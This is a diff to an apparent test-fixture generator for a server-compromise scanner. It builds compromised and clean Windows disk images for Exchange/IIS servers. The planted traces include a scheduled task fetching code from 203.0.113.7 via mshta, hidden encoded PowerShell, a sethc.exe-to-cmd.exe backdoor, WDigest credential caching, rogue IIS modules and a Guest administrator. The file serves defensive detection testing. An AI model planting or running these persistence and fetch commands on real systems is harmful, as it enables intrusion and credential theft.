@@ -174,12 +174,68 @@ AGENT = ('<agent name="Mail Helper" baseType="Microsoft.Exchange.Data.Transport.
          ' classFactory="Helper.Factory" assemblyPath="C:\\ProgramData\\helper\\agent.dll" enabled="true" />')
 
 
+PRODUCT = ('<agent name="Vendor" baseType="Microsoft.Exchange.Data.Transport.Routing.RoutingAgent"'
+           ' classFactory="Vendor.Factory" assemblyPath="%s" enabled="true" />')
+PART = "<configuration><%s>%s</%s></configuration>"
+
+
+def more_configuration(bad, good):
+    """Web applications' own files: (what, place, section, of the intruder, its twin, rule)."""
+    for kind, what, place, section, planted, twin, title in (
+            ("handler", "compiled as pages", APP + "web.config", "system.web",
+             '<compilation><buildProviders><add extension=".png" type="System.Web.Compilation.PageBuildProvider" />'
+             "</buildProviders></compilation>", '<compilation debug="false" />', "Files of a harmless kind are compiled as pages"),
+            ("handler", "where no application is", CLIENT + "web.config", "system.webServer",
+             '<handlers><add name="t" path="*.txt" verb="*" type="System.Web.UI.PageHandlerFactory" /></handlers>',
+             '<directoryBrowse enabled="false" />', "Configuration with handlers where no application is"),
+            ("module", "filter", EX + "ClientAccess/owa/web.config", "system.webServer",
+             '<isapiFilters><filter name="f" path="C:\\Windows\\System32\\inetsrv\\flt.dll" /></isapiFilters>',
+             '<isapiFilters><filter name="Exchange OWA Cookie Authentication ISAPI Filter" '
+             'path="C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\owa\\auth\\owaauth.dll" /></isapiFilters>',
+             "ISAPI filter that neither Windows nor Exchange ships"),
+            ("module", "another assembly first", "C/Windows/System32/inetsrv/w3wp.exe.config", "runtime",
+             '<appDomainManagerAssembly value="x, Version=0.0.0.0" /><appDomainManagerType value="X" />',
+             '<gcServer enabled="true" />', "A program's configuration makes it load another assembly first"),
+            ("module", "of another program's site", "C/websites/shop/web.config", "system.webServer",
+             '<modules><add name="S" type="Made.Module, Made" /></modules><handlers><add name="h" path="health.axd" '
+             'verb="*" type="Made.Health" /></handlers>', '<httpErrors errorMode="Custom" />',
+             "Managed module of another program")):
+        bad[place] = (PART % (section, planted, section)).encode()
+        good[place] = (PART % (section, twin, section)).encode()
+        thing(kind, what, place, title)
+    thing("handler", "of another program's site", "C/websites/shop/web.config", "Handler of another program")
+
+
+def programs(bad, good):
+    """Libraries: (what, place, names it gives out, maker, file name, rule)."""
+    for what, place, exports, company, name, title in (
+            ("native", "C/Windows/System32/inetsrv/httpflt.dll", ["RegisterModule"], "Example", "httpflt.dll",
+             "Library that is a module of IIS, unsigned"),
+            ("ISAPI", "C/inetpub/wwwroot/x/run.dll", ["GetExtensionVersion", "HttpExtensionProc"], "Example", "run.dll",
+             "ISAPI extension or filter in a web folder, unsigned"),
+            ("posing", EX + "FrontEnd/HttpProxy/bin/owaauth.dll", [], "Microsoft Corporation",
+             "Microsoft.Exchange.Clients.OwaAuth.dll", "Library under Exchange's name without its signature"),
+            ("program as a picture", CLIENT + "svchost.jpg", [], "Example", "svchost.exe",
+             "Program in a folder that serves files only")):
+        bad[place] = configuration.program(name=name, exports=exports, company=company)
+        if what != "program as a picture":
+            good[place] = configuration.program(name=name, exports=exports, company=company, signed=True)
+        thing("module", what, place, title)
+    for place in ("C/inetpub/wwwroot/x/run.dll", "C/Windows/System32/inetsrv/httpflt.dll"):
+        good[place] = configuration.program(name="run.dll", exports=["DllGetVersion"], signed=True)
+
+
 def settings(bad, good):
     bad[CONFIG] = configuration.application_host(
         vdir='<virtualDirectory path="/x" physicalPath="C:\\ProgramData\\COM1\\x" />',
-        native='<add name="HttpFilterModule" image="%windir%\\System32\\inetsrv\\httpflt.dll" />',
-        managed='<add name="SessionManager" type="Made.SessionManager, SessionManager" />',
-        handler='<add name="img" path="*.jpg" verb="*" type="System.Web.UI.PageHandlerFactory" />',
+        native='<add name="HttpFilterModule" image="%windir%\\System32\\inetsrv\\httpflt.dll" />'
+               '<add name="HttpHelper" image="C:\\ProgramData\\iis\\helper.dll" />'
+               '<add name="VendorModule" image="C:\\Program Files\\Vendor\\iismod.dll" />'
+               '<add name="UriCacheModule" image="%windir%\\System32\\inetsrv\\uricach.dll" />',
+        managed='<add name="SessionManager" type="Made.SessionManager, SessionManager" />'
+                '<add name="FbaModule" type="Microsoft.Exchange.HttpProxy.FbaModule, Extender" />',
+        handler='<add name="img" path="*.jpg" verb="*" type="System.Web.UI.PageHandlerFactory" />'
+                '<add name="h" path="health.axd" verb="*" type="Made.Health" />',
         rewrite=ABORT % AWAY).replace(b'dontLog="false"', b'dontLog="true"')
     good[CONFIG] = configuration.application_host(
         vdir='<virtualDirectory path="/pics" physicalPath="D:\\web\\pics" />',
@@ -189,6 +245,11 @@ def settings(bad, good):
             ("virtual directory", "place", "Virtual directory that points to an odd place", "COM1"),
             ("module", "native", "Native module of IIS that neither Windows nor Exchange ships", "httpflt"),
             ("module", "managed", "Managed module that neither ASP.NET nor Exchange ships", "SessionManager"),
+            ("module", "from an open place", "Native module of IIS from a place where none belongs", "helper.dll"),
+            ("module", "of a product", "Native module of IIS of another product", ""),
+            ("module", "under another's name", "Known name of a native module with another file", "uricach"),
+            ("module", "posing", "Managed module that poses as Microsoft's", "Extender"),
+            ("handler", "unknown", "Handler that neither ASP.NET nor Exchange ships", "health.axd"),
             ("handler", "pictures as pages", "Files of a harmless kind are run as pages", "jpg"),
             ("rewrite rule", "to another server", "Requests are passed on to another server", "203.0.113.7"),
             ("rewrite rule", "mitigation", "Rewrite rule against the forged cookies is in the configuration", ""),
@@ -202,17 +263,36 @@ def settings(bad, good):
     bad[own] = (KEY % ("21F090A8" * 8, "E9A1" * 12)).encode()
     good[own] = b"<configuration><system.web><customErrors mode=\"Off\" /></system.web></configuration>"
     thing("machine key", "given", own, "Machine key given in a configuration")
+    past = "C/inetpub/history/CFGHISTORY_0000000003/applicationHost.config"
+    bad[past] = configuration.application_host(native='<add name="Old" image="C:\\ProgramData\\old.dll" />')
+    good[past] = configuration.application_host()
+    thing("module", "in an older configuration", past,
+          "Native module of IIS from a place where none belongs", "old.dll")
+    more_configuration(bad, good)
     agents = EX + "TransportRoles/Shared/agents.config"
-    bad[agents], good[agents] = configuration.agents(AGENT), configuration.agents()
+    bad[agents], good[agents] = configuration.agents(AGENT + PRODUCT % (
+        "C:\\Program Files\\Vendor\\Agent.dll") + PRODUCT % (EX_WIN + "TransportRoles\\agents\\Rule\\Rule.dll")), configuration.agents()
     thing("transport agent", "configured", agents, "Transport agent from a place where none belongs")
+    thing("transport agent", "of another product", agents, "Transport agent of another product")
+    thing("transport agent", "unknown", agents, "Transport agent that Exchange does not ship")
     for name, planted, title in (
+            ("Encoded", configuration.task("powershell.exe", "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA"),
+             "Scheduled task with encoded or hidden commands"),
+            ("Fetch", configuration.task("mshta.exe", "http://203.0.113.7/a.hta"),
+             "Scheduled task that runs code from the network"),
+            ("Winnet", configuration.task("C:\\Program Files\\V\\v.exe"), "Scheduled task under a name that intruders used"),
+            ("Data", configuration.task("C:\\ProgramData\\a.exe"),
+             "Scheduled task of the system that runs a program from a writable place"),
+            ("Dell", configuration.task("C:\\ProgramData\\Dell\\UpdateService\\update.exe"),
+             "Scheduled task that runs a product's program from a writable place"),
             ("Updater", configuration.task("C:\\Windows\\Temp\\a.exe"),
              "Scheduled task that runs a program from an odd place"),
             ("Winner", configuration.task("C:\\Program Files\\V\\v.exe", hidden=True),
              "Hidden scheduled task that is not of Windows")):
         bad[TASKS + name] = planted
-        good[TASKS + name] = configuration.task("C:\\Program Files\\V\\v.exe", "/ua")
+        good[TASKS + name.replace("Winnet", "Vendor")] = configuration.task("C:\\Program Files\\V\\v.exe", "/ua")
         thing("task", name, TASKS + name, title)
+    detections(bad, good)
     detection = "C/ProgramData/Microsoft/Windows Defender/Scans/History/Service/DetectionHistory/02/" \
                 "03020100-0504-0706-0809-0A0B0C0D0E0F"
     bad[detection] = configuration.detection("Backdoor:ASP/Chopper.A!dha", "C:\\inetpub\\wwwroot\\aspnet_client\\gone.aspx")
@@ -221,18 +301,30 @@ def settings(bad, good):
           "SYSTEM")
 
 
+def detections(bad, good):
+    history = "C/ProgramData/Microsoft/Windows Defender/Scans/History/Service/DetectionHistory/"
+    for what, place, threat, path, status, title in (
+            ("left by Defender", "03/03020100-0504-0706-0809-0A0B0C0D0E1F", "Backdoor:ASP/Chopper.F!dha",
+             "C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx", 103, "Defender found a page in a web folder and did not remove it"),
+            ("program", "04/03020100-0504-0706-0809-0A0B0C0D0E2F", "HackTool:Win32/Mimikatz.D", "C:\\Windows\\Temp\\m.exe", 3,
+             "Defender found an intruder's program")):
+        bad[history + place] = configuration.detection(threat, path, status)
+        good[history + place] = configuration.detection("PUA:Win32/Toolbar", "C:\\Users\\u\\t.exe", status)
+        thing("gone", what, history + place, title)
+
+
 # --- registry ----------------------------------------------------------------------------------------------
 
 SD = b"\1\0\4\x80" + bytes(16)
 USERINIT = "C:\\Windows\\system32\\userinit.exe,"
 
 
-def account(rid, name, disabled=False):
+def account(rid, name, disabled=False, acts_as=0):
     v = bytearray(0xcc)
     text = name.encode("utf-16-le")
     struct.pack_into("<III", v, 0x0c, 0, len(text), 0)
     f = bytearray(80)
-    struct.pack_into("<I", f, 48, rid)
+    struct.pack_into("<I", f, 48, acts_as or rid)
     struct.pack_into("<H", f, 56, 0x10 | int(disabled))
     return Key(f"{rid:08X}", Value("F", bytes(f)), Value("V", bytes(v) + text))
 
@@ -241,20 +333,61 @@ def sam(*accounts, administrators):
     sids = b"".join(b"\1\5" + bytes(5) + b"\5" + struct.pack("<IIIII", 21, 1, 2, 3, r) for r in administrators)
     members = bytes(0x28) + struct.pack("<III", 0, len(sids), len(administrators)) + sids
     return hive(Key("ROOT", Key("SAM", Key("Domains", Key("Account", Key(
-        "Users", Key("Names", *(Key(n) for _, n in accounts)), *(account(r, n) for r, n in accounts))),
+        "Users", Key("Names", *(Key(n) for _, n in accounts)), *(account(r, n, acts_as=500 if n == "posing" else 0) for r, n in accounts))),
         Key("Builtin", Key("Aliases", Key("00000220", Value("C", members))))))))
 
 
-def system_hive(name, image):
+SERVICES = [  # (key of a service, values, rule)
+    (("msupd", {"ImagePath": "%COMSPEC% /b /c start /b /min powershell -nop -w hidden -encodedcommand "
+                             "JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAuAE0AZQBtAG8AcgB5AFMAdAByAGUAYQBtACg"}),
+     "Command of an autostart that hides or fetches code"),
+    (("Pages", {"ImagePath": "C:\\inetpub\\wwwroot\\aspnet_client\\x.exe"}), "Program in a web folder is started by Windows"),
+    (("EventLog", {"Start": 4}), "Service of the event log is switched off"),
+]
+
+
+def planted_system():
+    """Further keys below Services and Control of a system that was entered."""
+    services = [Key(name, *(Value(n, v) for n, v in values.items())) for (name, values), _ in SERVICES]
+    services.append(Key("PortProxy", Key("v4tov4", Key("tcp", Value("0.0.0.0/8443", "192.0.2.7/3389")))))
+    control = [
+        Key("Lsa", Value("DisableRestrictedAdmin", 0), Value("Notification Packages", ["scecli", "made"])),
+        Key("SecurityProviders", Key("WDigest", Value("UseLogonCredential", 1))),
+        Key("Terminal Server", Key("Wds", Key("rdpwd", Value("StartupPrograms", "rdpclip,x.exe"))))]
+    return services, control
+
+
+OF_SYSTEM = [title for _, title in SERVICES] + [
+    "Connections are passed on to another machine", "Remote Desktop takes a hash for a password",
+    "Package of the security authority that is not of Windows", "Passwords are kept in memory as they are typed",
+    "Program that starts with Remote Desktop sessions"]
+
+
+def system_hive(name, image, services=(), control=()):
     return hive(Key(
         "ROOT", Key("Select", Value("Current", 1)), Key(
             "ControlSet001",
-            Key("Control", Key("ComputerName", Key("ComputerName", Value("ComputerName", name)))),
+            Key("Control", Key("ComputerName", Key("ComputerName", Value("ComputerName", name))), *control),
             Key("Services", Key("Updater", Value("ImagePath", image), Value("Start", 2),
-                                Value("Type", 16))))))
+                                Value("Type", 16)), *services))))
 
 
-def software_hive(winlogon, exclusion, certificate, hidden):
+def planted_software():
+    """Further keys: below Windows NT\\CurrentVersion, below Windows\\CurrentVersion, below Microsoft."""
+    options = Key("Image File Execution Options", Key("sethc.exe", Value("Debugger", "C:\\Windows\\System32\\cmd.exe")),
+                  Key("msmpeng.exe", Value("Debugger", "C:\\Windows\\system32\\systray.exe")))
+    windows = Key("Windows", Value("AppInit_DLLs", "C:\\Windows\\help.dll"), Value("LoadAppInit_DLLs", 1))
+    channels = Key("WINEVT", Key("Channels", Key("Microsoft-Windows-PowerShell/Operational", Value("Enabled", 0))))
+    return [options, windows], [channels], [Key("NetSh", Value("h", "C:\\Users\\Public\\h.dll"))]
+
+
+OF_SOFTWARE = [
+    "Accessibility program of the logon screen is replaced", "Program is started in place of another",
+    "Library that is loaded into programs", "Channel of the event log is switched off", "Helper of netsh from another folder",
+    "Defender leaves out what it should look at"]
+
+
+def software_hive(winlogon, exclusion, certificate, hidden, of_nt=(), of_windows=(), of_microsoft=()):
     tree = Key("Tree", Value("SD", SD), Key("Microsoft", Value("SD", SD)), Key(
         "Updater", Value("Id", "{00000000-0000-0000-0000-000000000001}"), *([] if hidden else [Value("SD", SD)])))
     request = [Key("SystemCertificates", Key("REQUEST", Key("Certificates", Key(
@@ -265,15 +398,21 @@ def software_hive(winlogon, exclusion, certificate, hidden):
         "Microsoft", *request, Key("ExchangeServer", Key("v15", setup)),
         Key("Windows Defender", Key("Exclusions", Key("Paths", *([Value(exclusion, 0)] if exclusion else [])))),
         Key("Windows NT", Key("CurrentVersion", Key("Winlogon", Value("Userinit", winlogon)),
-                              Key("Schedule", Key("TaskCache", tree)))))))
+                              Key("Schedule", Key("TaskCache", tree)), *of_nt)),
+        Key("Windows", Key("CurrentVersion", *of_windows)), *of_microsoft)))
 
 
 def registry(bad, good):
-    bad[HIVES + "SYSTEM"] = system_hive("BAD01", "C:\\ProgramData\\x.exe")
+    bad[HIVES + "SYSTEM"] = system_hive("BAD01", "C:\\ProgramData\\x.exe", *planted_system())
+    for title in OF_SYSTEM:
+        thing("service", title, HIVES + "SYSTEM", title)
     good[HIVES + "SYSTEM"] = system_hive("GOOD01", "%SystemRoot%\\System32\\svchost.exe -k netsvcs")
     thing("service", "in the registry", HIVES + "SYSTEM", "Program in an open place is started by Windows")
     bad[HIVES + "SOFTWARE"] = software_hive(USERINIT + "C:\\ProgramData\\x.exe,", "C:\\inetpub",
-                                            bytes(40) + b'<%@ Page Language="JScript"%><script runat="server">', True)
+                                            bytes(40) + b'<%@ Page Language="JScript"%><script runat="server">', True,
+                                            *planted_software())
+    for title in OF_SOFTWARE:
+        thing("logging" if "Channel" in title else "service", title, HIVES + "SOFTWARE", title)
     good[HIVES + "SOFTWARE"] = software_hive(USERINIT, "", bytes(40) + b"CN=mail.example.com", False)
     for kind, what, title in (
             ("task", "hidden in TaskCache", "Scheduled task without a security descriptor"),
@@ -281,7 +420,10 @@ def registry(bad, good):
             ("web shell", "pending request for a certificate", "Request for a certificate that holds script")):
         thing(kind, what, HIVES + "SOFTWARE", title)
     builtin, person = (500, "Administrator"), (1001, "a.berg")
-    bad[HIVES + "SAM"] = sam(builtin, (1002, "support$"), (1003, "helper"), administrators=(500, 1002, 1003))
+    bad[HIVES + "SAM"] = sam(builtin, (1002, "support$"), (1003, "helper"), (501, "Guest"), (1004, "posing"),
+                             administrators=(500, 501, 1002, 1003))
+    thing("account", "guest", HIVES + "SAM", "Guest account that is on, or an administrator", "Guest")
+    thing("account", "acts as another", HIVES + "SAM", "Local account that acts as another", "posing")
     good[HIVES + "SAM"] = sam(builtin, person, administrators=(500,))
     thing("account", "not listed", HIVES + "SAM", "Local administrator under a name that is not listed", "support$")
     thing("account", "administrator", HIVES + "SAM", "Local administrator beside the built-in one")
@@ -407,6 +549,8 @@ SECURITY = [  # (kind, id, data, twin's, rule)
     ("service", 4697, {"ServiceName": "mxupd", "ServiceFileName": "C:\\Windows\\Temp\\a.exe"},
      {"ServiceName": "Vendor", "ServiceFileName": "C:\\Program Files\\Vendor\\a.exe"},
      "Service was installed from a place where none belongs, by the audit"),
+    ("service", 4697, {"ServiceName": "mxcmd", "ServiceFileName": "%COMSPEC% /Q /c echo x ^> C:\\out"}, None,
+     "Service that runs a command was installed, by the audit"),
     ("task", 4698, {"TaskName": "\\Winner", "TaskContent": "<Task><Actions><Exec><Command>C:\\Windows\\Temp\\a.exe</Command></Exec></Actions></Task>"},
      {"TaskName": "\\Vendor", "TaskContent": "<Task><Actions><Exec><Command>C:\\Program Files\\V\\a.exe</Command></Exec></Actions></Task>"},
      "Scheduled task that runs a program from an odd place, by the audit"),
@@ -430,6 +574,8 @@ DEFENDER = [
     ("gone", 1117, {"Threat Name": "Backdoor:ASP/Dirtelti.A", "Path": "file:_C:\\inetpub\\wwwroot\\app\\gone2.aspx",
                     "Action Name": "Quarantine", "Remediation User": "EXAMPLE\\admin"}, None,
      "Antivirus removed a page from a web folder"),
+    ("gone", 1116, {"Threat Name": "Backdoor:ASP/Dirtelti.A", "Path": "file:_C:\\inetpub\\wwwroot\\app\\gone2.aspx"}, None,
+     "Antivirus found a page in a web folder"),
 ]
 
 
@@ -632,7 +778,9 @@ def journal(folder, page):
     out = b""
     for entry, parent, reason, is_folder, name in (
             (60 | 1 << 48, 5 | 5 << 48, 0x100, True, folder), (61 | 1 << 48, 60 | 1 << 48, 0x100, False, page),
-            (61 | 1 << 48, 60 | 1 << 48, 0x80000200, False, page)):
+            (61 | 1 << 48, 60 | 1 << 48, 0x80000200, False, page),
+            (62 | 1 << 48, 60 | 1 << 48, 0x1000, False, "p.gif"),
+            (62 | 1 << 48, 60 | 1 << 48, 0x2000, False, "p.aspx" if folder == "aspnet_client" else "q.gif")):
         out += usn_record(entry, parent, reason, is_folder, name, len(out))
     return out + bytes(4096 - len(out))
 
@@ -642,6 +790,11 @@ def gone(bad, good):
         files[JOURNAL] = journal(folder, "gone.aspx")
     thing("gone", "written, by the journal", JOURNAL, "Page made in a web folder where none ships, by the change journal")
     thing("gone", "deleted, by the journal", JOURNAL, "Page deleted in a web folder where none ships, by the change journal")
+    thing("gone", "renamed, by the journal", JOURNAL, "File renamed from a harmless kind to a page")
+    thing("gone", "archive, by the master file table", MFT,
+          "Archive, dump or mail store in a reachable folder, by the master file table", "a.7z")
+    thing("web shell", "by its content in the master file table", MFT,
+          "Script that runs what a request says, in the master file table")
     thing("gone", "by the master file table", MFT, "Page in a web folder where none ships, by the master file table", "gone.aspx")
     for files, page, number in ((bad, "gone.aspx", 0x1F3A90C3), (good, "logon.aspx", 0x1F3A90C2)):
         files["C/" + background.compiled_path(page, number)] = background.compiled(page, "App_Web_made").encode()
@@ -671,7 +824,8 @@ def volume(path, files, deleted=()):
         v.write(at, content)
     for place in deleted:
         v.mkdir(place.rpartition("/")[0])
-        v.write(place, b"gone")
+        v.write(place, ZIP if place.endswith(".7z") else b"gone")
+    for place in deleted:  # all are there before the first goes, or one would take another's entry
         v.delete(place)
     v.close()
     v = ntfs.Volume(path)
@@ -684,8 +838,9 @@ def files(work):
     """Of both servers; leaves their volumes in the folder `work` as BAD01.dd and GOOD01.dd."""
     bad, good = {}, {}
     THINGS.clear()
-    for make in (pages, own_pages, settings, registry, event_logs, mailbox_logs, request_logs, web_services, staged, gone, builds):
+    for make in (pages, own_pages, settings, programs, registry, event_logs, mailbox_logs, request_logs, web_services, staged, gone, builds):
         make(bad, good)
-    bad[MFT] = volume(str(work / "BAD01.dd"), bad, ["/inetpub/wwwroot/aspnet_client/gone.aspx"])
-    good[MFT] = volume(str(work / "GOOD01.dd"), good, ["/Users/admin/Documents/gone.aspx"])
+    bad[MFT] = volume(str(work / "BAD01.dd"), bad,
+                      ["/inetpub/wwwroot/aspnet_client/gone.aspx", "/inetpub/wwwroot/aspnet_client/a.7z"])
+    good[MFT] = volume(str(work / "GOOD01.dd"), good, ["/Users/admin/Documents/gone.aspx", "/Users/admin/Documents/a.7z"])
     return bad, good
